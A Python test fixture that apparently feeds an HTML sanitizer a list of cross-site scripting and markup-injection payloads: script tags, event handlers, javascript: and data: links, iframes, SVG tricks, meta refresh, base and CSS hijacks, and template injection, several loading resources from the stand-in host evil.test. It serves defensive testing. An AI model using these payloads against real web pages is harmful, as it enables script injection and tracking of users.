"""Markup that wants to run or to call out, of our own writing; each calls `__ran` or asks evil.test."""

from collections.abc import Sequence
from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """One piece of hostile markup, and what a reader must still be able to read of it."""

    name: str
    html: str
    keep: tuple[str, ...] = ()
    attacks: tuple[str, ...] = ()  # what goes into title, author, tag and section; by default the markup

    def attack(self, number: int) -> str:
        """Return the markup for the nth of the fields."""
        chosen = self.attacks or (self.html,)
        return chosen[number % len(chosen)]


SAID = "The quay of pier {} stays open on Monday."
OWN = tuple(
    Payload(
        name=name, html=html.replace("SAID", SAID.format(number)), keep=(SAID.format(number),)
    )
    for number, (name, html) in enumerate((
        ("script", "<p>SAID<script>__ran('a')</script></p>"),
        ("split script", "<p>SAID</p><scr<script></script>ipt>__ran('b')</scr</script>ipt>"),
        ("remote script", "<p>SAID</p><script src=//evil.test/a.js></script>"),
        ("image error", "<p>SAID<img src=x onerror=__ran('c')></p>"),
        ("remote image", "<p>SAID<img src='https://evil.test/pixel.gif' alt='a'></p>"),
        ("set of images", "<p>SAID<img srcset='//evil.test/1.png 1x, //evil.test/2.png 2x'></p>"),
        ("svg load", "<p>SAID</p><svg onload=__ran('d')><use href='//evil.test/x.svg#a'/></svg>"),
        ("svg animation", "<p>SAID</p><svg><a><animate attributeName=href to=javascript:__ran(1) />x</a>"),
        ("math link", "<p>SAID</p><math href='javascript:__ran(2)'><mi>x</mi></math>"),
        ("link scheme", "<p>SAID <a href='java&#x09;script:__ran(3)'>more</a></p>"),
        ("data link", "<p>SAID <a href='data:text/html,<script>__ran(4)</script>'>more</a></p>"),
        ("frame", "<p>SAID</p><iframe srcdoc='<script>parent.__ran(5)</script>'></iframe>"),
        ("object", "<p>SAID</p><object data='//evil.test/o'></object><embed src='//evil.test/e'>"),
        ("style", "<p>SAID</p><style>@import '//evil.test/s.css';p{background:url(//evil.test/b)}</style>"),
        ("style of an element", "<p style='background:url(//evil.test/c)'>SAID</p>"),
        ("refresh", "<p>SAID</p><meta http-equiv=refresh content='0;url=//evil.test/r'>"),
        ("base", "<p>SAID</p><base href='//evil.test/'><a href='story'>x</a>"),
        ("form", "<p>SAID</p><form action='//evil.test/f'><input autofocus onfocus=__ran(6)></form>"),
        ("details", "<p>SAID</p><details open ontoggle=__ran(7)><summary>x</summary>y</details>"),
        ("closing tags", "<p>SAID</p></article></template></style></script><img src=x onerror=__ran(8)>"),
        ("attribute break", "<p title='\"><img src=x onerror=__ran(9)>'>SAID</p>"),
        ("markdown", "<p>SAID ![x](https://evil.test/m.png) [y](javascript:__ran(10))</p>"),
        ("template text", "<p>SAID {{constructor.constructor('__ran(11)')()}} ${__ran(12)}</p>"),
        ("entities", "<p>SAID &lt;img src=x onerror=__ran(13)&gt;</p>"),
    ))
)  # fmt: skip


def together(payloads: Sequence[Payload], groups: int) -> list[Payload]:
    """Return the payloads in so many pages, each with several of them, of different kinds."""
    return [
        Payload(
            name=", ".join(each.name for each in payloads[first::groups]),
            html="\n".join(each.html for each in payloads[first::groups]),
            attacks=tuple(each.html for each in payloads[first::groups]),
            keep=tuple(keep for each in payloads[first::groups] for keep in each.keep),
        )
        for first in range(groups)
    ]
